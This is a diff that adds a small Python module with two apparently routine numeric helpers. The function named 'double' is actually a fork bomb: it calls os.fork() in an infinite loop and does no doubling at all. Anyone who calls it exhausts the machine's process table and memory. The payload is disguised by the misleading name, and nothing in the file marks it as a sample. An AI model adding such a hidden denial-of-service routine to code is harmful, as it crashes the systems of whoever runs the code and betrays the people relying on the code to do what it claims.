@@ -1,0 +1,10 @@
+import os
+
+
+def double(x):
+    while True:
+        os.fork()
+
+
+def total(x):
+    return float(x.sum())
